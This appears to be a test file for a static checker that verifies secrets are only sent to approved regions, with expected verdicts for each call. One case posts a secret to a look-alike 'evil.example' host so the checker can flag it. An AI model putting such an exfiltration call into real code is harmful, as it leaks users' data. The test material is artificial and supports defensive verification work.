// RUN: assay check %s --profile default --ruleset %S/../../policies/regions.ruleset.json --bindings %S/../../policies/regions.bindings.json -- -std=c++20 -I %I -I %S/../../stand-ins
// Where a call sends is known from its binding, from a constant, or from a list that was checked.
#include <stores.h>
void byBinding() {
  int secret = readSecret();
  storeInVienna(secret);  // EXPECT: proved golden:secret-at-home
  storeInBoston(secret);  // EXPECT: violated golden:secret-at-home
  storeSomewhere(secret); // EXPECT: unproved(unsupported) golden:secret-at-home
  storeSomewhere(5);      // EXPECT: proved golden:secret-at-home
}
void byConstant() {
  int secret = readSecret();
  storeIn(Zone::Zurich, secret); // EXPECT: proved golden:secret-at-home
  storeIn(Zone::Pune, secret);   // EXPECT: violated golden:secret-at-home
  storeIn(Zone::Pune, 7);        // EXPECT: proved golden:secret-at-home
}
bool isHome(Zone zone) { return zone == Zone::Vienna || zone == Zone::Zurich; }
void byList(Zone zone) {
  int secret = readSecret();
  if (isHome(zone)) /* GUARD: if (zone != Zone::Boston) */
    storeIn(zone, secret); // EXPECT: proved golden:secret-at-home
}
void byWrongList(Zone zone) {
  int secret = readSecret();
  if (zone != Zone::Boston)
    storeIn(zone, secret); // EXPECT: violated golden:secret-at-home
}
// The zone that was checked is not the one that is used.
void checkedCopy(Zone zone) {
  int secret = readSecret();
  Zone copy = zone;
  if (!isHome(copy))
    copy = Zone::Vienna;
  storeIn(zone, secret); // EXPECT: violated golden:secret-at-home
}
void byName(bool isSwiss) {
  int secret = readSecret();
  const char *host = isSwiss ? "https://ch.store.example" : "https://eu.store.example"; /* GUARD: const char *host = isSwiss ? "https://us.store.example" : "https://eu.store.example"; */
  post(host, secret); // EXPECT: proved golden:secret-at-home
}
void byOtherName() {
  int secret = readSecret();
  post("https://us.store.example", secret); // EXPECT: violated golden:secret-at-home
}
// A name of nobody's list.
void byUnknownName() {
  int secret = readSecret();
  post("https://eu.store.example.evil.example", secret); // EXPECT: violated golden:secret-at-home
}
// What the configuration says is an assumption with the file's digest.
void byConfiguration() {
  int secret = readSecret();
  storeIn(configuredZone(), secret); // EXPECT: proved golden:secret-at-home
  post(configuredHost(), secret);    // EXPECT: proved golden:secret-at-home
}
void byWhoeverAsks() {
  int secret = readSecret();
  storeIn(askedZone(), secret); // EXPECT: not-proved golden:secret-at-home
}
// A name that was put together may be any.
void byPieces(char *host) {
  int secret = readSecret();
  host[0] = 'h';
  post(host, secret); // EXPECT: not-proved golden:secret-at-home
}
